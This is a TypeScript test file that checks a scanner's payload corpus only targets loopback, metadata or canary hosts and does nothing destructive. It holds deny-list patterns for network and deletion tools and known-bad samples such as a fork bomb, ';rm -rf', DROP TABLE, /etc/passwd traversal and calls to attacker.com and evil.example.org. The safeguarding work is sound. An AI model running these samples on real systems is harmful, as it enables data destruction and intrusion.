import type { Payload } from '../../../src/payloads/index.js';
import { existsSync } from 'node:fs';
import { posix } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadPayloads, renderPayload } from '../../../src/payloads/index.js';

// The corpus is benign by construction; these checks are the construction inspection. Each check is also run on
// known-bad samples so a check that silently stops matching fails here too. A payload that needs an exception needs
// a conversation first.

const TOKEN = 'efz0123456789ab';

/** Hostnames (as WHATWG URL normalises them) a payload may point at. */
const ALLOWED_HOSTS = new Set([
  '169.254.169.254',
  '169.254.170.2',
  '[fd00:ec2::254]',
  '[::ffff:a9fe:a9fe]',
  '127.0.0.1',
  'localhost',
  '[::1]',
  '0.0.0.0',
  `${TOKEN}.canary.invalid`,
]);
const ALLOWED_IPV4 = new Set(['169.254.169.254', '169.254.170.2', '127.0.0.1', '0.0.0.0']);
/** Suffixes that would make a dotted word a real, resolvable host name. */
const PUBLIC_SUFFIXES = new Set(
  'com net org io co me info biz xyz dev app ru cn tk site online top us uk de fr nl in cc ly link tech cloud aws internal local localdomain test example'.split(' '),
);
/** XML namespace names: identifiers that parsers never fetch. */
const NAMESPACE_URLS = new Set(['http://www.w3.org/2001/XInclude', 'http://www.w3.org/2000/svg']);

const DENIED: readonly (readonly [RegExp, string])[] = [
  [/\brm\b/i, 'rm'],
  [/\brmdir\b|\bunlink\b|\bshred\b/i, 'file deletion'],
  [/\bmkfs\b|\bdd\b|\bfdisk\b/i, 'disk tools'],
  [/\bcurl\b|\bwget\b|\bfetch\(|\bnc\b|\bncat\b|\bnetcat\b|\bsocat\b|\btelnet\b|\bssh\b|\bscp\b/i, 'outbound client'],
  [/:\(\)\s*\{/, 'fork bomb'],
  [/\bshutdown\b|\breboot\b|\bpoweroff\b|\bhalt\b|\binit\s+0\b/i, 'power control'],
  [/\bchmod\b|\bchown\b|\bchattr\b|\bsudo\b|\bsu\s/i, 'permission change'],
  [/\b(?:p?kill|killall)\b|process\.(?:exit|kill|abort)/i, 'process termination'],
  [/\bmv\b|\bcp\b|\btee\b|\btouch\b|\btruncate\b/i, 'file write'],
  [/writeFile|appendFile|createWriteStream|child_process|execSync|spawn|require\(|import\(/i, 'Node side effects'],
  [/>\s*\/(?!tmp\/)[\w.]/, 'redirect outside /tmp'],
  [
    /\bdrop\s+(?:table|database|schema)|\bdelete\s+from|\bupdate\s+\w+\s+set|\binsert\s+into|\balter\s+table|\bgrant\b|xp_cmdshell|\binto\s+(?:out|dump)file/i,
    'data-modifying SQL',
  ],
  [/\$(?:set|unset|rename|push|pull|inc)\b|dropDatabase|\.remove\(|deleteMany|updateMany/i, 'data-modifying NoSQL'],
  [/nip\.io|sslip\.io|xip\.io|burpcollaborator|oastify|interact\.sh|ngrok|requestbin|pipedream|webhook\.site|dnslog/i, 'callback service'],
];

type Check = (p: Payload, text: string) => readonly string[];

const denied: Check = (_p, text) => DENIED.filter(([re]) => re.test(text)).map(([, what]) => what);

const urls: Check = (_p, text) => {
  const bad: string[] = [];
  for (const raw of text.match(/\b[a-z][a-z0-9+.-]*:\/\/[^\s"'<>`\\]*/gi) ?? []) {
    if (NAMESPACE_URLS.has(raw)) continue;
    let url: URL;
    try {
      url = new URL(raw);
    } catch {
      bad.push(`unparseable URL ${raw}`);
      continue;
    }
    if (url.protocol === 'file:') {
      if (!url.pathname.startsWith('/tmp/') || url.hostname !== '') bad.push(raw);
    } else if (!ALLOWED_HOSTS.has(url.hostname)) bad.push(`${raw} (host ${url.hostname})`);
  }
  // Scheme-relative URLs: `//host/…` not preceded by a path or scheme character.
  for (const m of text.matchAll(/(?<![\w:./\\%])\/\/([^/\s"'<>?#]+)/g)) {
    const host = m[1] ?? '';
    let hostname: string;
    try {
      hostname = new URL(`http://${host}`).hostname;
    } catch {
      continue; // not a host at all
    }
    if (!ALLOWED_HOSTS.has(hostname)) bad.push(`//${host}`);
  }
  return bad;
};

const hosts: Check = (_p, text) => {
  const bad: string[] = [];
  const scrubbed = [...NAMESPACE_URLS].reduce((t, ns) => t.replaceAll(ns, ''), text);
  for (const ip of scrubbed.match(/\b\d{1,3}(?:\.\d{1,3}){3}\b/g) ?? []) if (!ALLOWED_IPV4.has(ip)) bad.push(ip);
  // Split into host-like words first: a backtracking host regex would hang on the corpus's own ReDoS runs.
  for (const word of scrubbed.split(/[^\w.-]+/)) {
    const host = word.replace(/^[.-]+|[.-]+$/g, '').toLowerCase();
    if (!host.includes('.')) continue;
    const tld = host.slice(host.lastIndexOf('.') + 1);
    if (tld === 'invalid' ? host !== `${TOKEN}.canary.invalid` : PUBLIC_SUFFIXES.has(tld)) bad.push(host);
  }
  return bad;
};

const PATH_BASE = '/var/task/uploads';
const PATH_TRANSFORMS: readonly ((s: string) => string)[] = [
  (s) => decodeURIComponent(s),
  (s) => s.replaceAll('\\', '/'),
  (s) => s.normalize('NFKC'),
  (s) => s.replaceAll('../', ''),
  (s) => s.split('\u0000')[0] ?? '',
];

/** Directories a path payload may land in, directly: a name there never collides with a file the system needs. */
const PATH_LANDINGS = new Set(['/etc', '/tmp']);

/**
 * Every decoding a handler might apply (up to four in a row) must stay inside the base, or resolve to a name that
 * carries the token directly under /etc or /tmp and does not exist: never an existing file, never a directory root.
 */
const paths: Check = (p, text) => {
  if (!p.contexts.includes('path')) return [];
  const seen = new Set([text]);
  let frontier = [text];
  for (let depth = 0; depth < 4; depth++) {
    frontier = frontier.flatMap((s) =>
      PATH_TRANSFORMS.flatMap((f) => {
        try {
          const next = f(s);
          if (seen.has(next)) return [];
          seen.add(next);
          return [next];
        } catch {
          return []; // a decoder that throws is a crash finding, not a traversal
        }
      }),
    );
  }
  return [...seen]
    .map((variant) => [variant, posix.resolve(PATH_BASE, variant)] as const)
    .filter(([, resolved]) => !resolved.startsWith(`${PATH_BASE}/`) && !isHarmlessLanding(resolved))
    .map(([variant, resolved]) => `${JSON.stringify(variant)} -> ${resolved}`);
};

function isHarmlessLanding(resolved: string): boolean {
  return PATH_LANDINGS.has(posix.dirname(resolved)) && posix.basename(resolved).includes(TOKEN) && !existsSync(resolved);
}

const delays: Check = (p, text) => {
  const bad: string[] = [];
  const check = (ms: number, what: string): void => {
    if (!(ms > 0 && ms <= 2000)) bad.push(what);
  };
  for (const m of text.matchAll(/\b(?:pg_)?sleep\s*\(?\s*(\d+(?:\.\d+)?)/gi)) {
    check(Number(m[1]) * (p.family === 'nosql-injection' ? 1 : 1000), m[0]); // MongoDB sleep() takes ms
  }
  for (const m of text.matchAll(/WAITFOR\s+DELAY\s+'(\d+):(\d+):(\d+)'/gi)) {
    check((Number(m[1]) * 3600 + Number(m[2]) * 60 + Number(m[3])) * 1000, m[0]);
  }
  for (const m of text.matchAll(/Date\.now\(\)\s*\+\s*(\d+)/g)) check(Number(m[1]), m[0]);
  if (/\b(?:while|for)\s*\(/.test(text) && !/while\(Date\.now\(\)<t\)/.test(text)) bad.push('loop');
  return bad;
};

const SHELL_COMMANDS = new Set(['echo', 'printf', 'sleep', 'efzcanary']);
const shellCommands: Check = (p, text) => {
  if (!p.contexts.includes('shell')) return [];
  return text
    .replaceAll('${IFS}', ' ')
    .split(/&&|\|\||[;|&\n`'"()#$]/)
    .map((segment) => segment.trim().split(/\s+/)[0] ?? '')
    .filter((word) => /^[a-z][\w-]*$/i.test(word) && word !== TOKEN && !SHELL_COMMANDS.has(word));
};

const JS_CALLS = new Set(['efzcanary', 'function', '_$$ND_FUNC$$_function', 'constructor', 'now', 'while', 'sleep', 'set']);
const jsCalls: Check = (p, text) => {
  if (!p.contexts.some((c) => c === 'js' || c === 'template' || c === 'html')) return [];
  return [...text.matchAll(/([A-Za-z_$][\w$]*)\s*\(/g)].map((m) => m[1] ?? '').filter((name) => !JS_CALLS.has(name));
};

const CHECKS: readonly (readonly [string, Check, readonly (readonly [string, readonly Payload['contexts'][number][]])[]])[] = [
  ['contains nothing destructive or outbound', denied, [
    [';rm -rf /tmp/x', ['shell']], ['; curl -s http://127.0.0.1/', ['shell']], [':(){ :|:& };:', ['shell']], ['echo x > /etc/x', ['shell']],
    ["'; DROP TABLE users; --", ['sql']], ['{"$set":{"admin":true}}', ['nosql']], ['http://x.nip.io/', ['url']], ["require('fs')", ['js']],
  ]],
  ['points URLs only at loopback, the metadata addresses or the canary host', urls, [
    ['http://evil.example.org/{{token}}', ['url']], ['//203.0.113.9/{{token}}', ['url']], ['file:///etc/passwd', ['xml']],
    ['http://{{token}}.canary.invalid.evil.com/', ['url']], ['http://169.254.169.254@evil.test/', ['url']],
  ]],
  ['names no host outside the allowed set, in URLs or elsewhere', hosts, [
    ['nslookup {{token}}.attacker.com', ['shell']], ['10.0.0.1', ['url']], ['{{token}}.other.invalid', ['url']],
  ]],
  ['resolves every path payload to a missing token name under /etc or /tmp (or inside the base) under any decoding', paths, [
    ['../../../../../../etc/passwd', ['path']], ['..%2f..%2f..%2f..%2fetc%2fpasswd', ['path']], ['/root/{{token}}', ['path']],
    ['....//....//....//....//root/{{token}}', ['path']], ['../../../../etc/{{token}}/../passwd', ['path']], ['../../../../etc/', ['path']],
    ['/{{token}}', ['path']], ['../../../../etc/sub/{{token}}', ['path']], ['/etc/{{token}}%2f..%2fhosts', ['path']],
  ]],
  ['sleeps or busy-waits for at most 2 s per evaluation', delays, [
    [';sleep 10 #{{token}}', ['shell']], ["'; WAITFOR DELAY '0:0:30'--", ['sql']], ['while(true);', ['js']], ['Date.now()+60000', ['js']],
  ]],
  ['runs only echo, printf, sleep and the canary program in shell payloads', shellCommands, [
    [';cat /etc/passwd', ['shell']], ['$(id)', ['shell']], ['`uname -a`', ['shell']], ['&& python3 -c 1', ['shell']],
  ]],
  ['calls only the canary function and harmless built-ins in JavaScript, template and HTML payloads', jsCalls, [
    ["';process.exit(1);//", ['js']], ['{{token}}${fetch("x")}', ['template']], ['<img onerror="alert(1)">', ['html']],
  ]],
];

const corpus = loadPayloads().map((p) => ({ p, text: renderPayload(p.template, TOKEN) }));
const sample = (template: string, contexts: readonly Payload['contexts'][number][]): Payload => ({
  id: 'sample',
  family: 'sample',
  template,
  contexts,
  confirms: [],
  proves: 'Nothing.',
});

describe('payload safety', () => {
  for (const [name, check, badSamples] of CHECKS) {
    it(name, () => {
      expect(corpus.flatMap(({ p, text }) => check(p, text).map((why) => `${p.id}: ${why}`))).toEqual([]);
    });

    it(`${name}: the check rejects known-bad samples`, () => {
      const missed = badSamples.filter(([t, contexts]) => check(sample(t, contexts), renderPayload(t, TOKEN)).length === 0);
      expect(missed.map(([t]) => t)).toEqual([]);
    });
  }
});
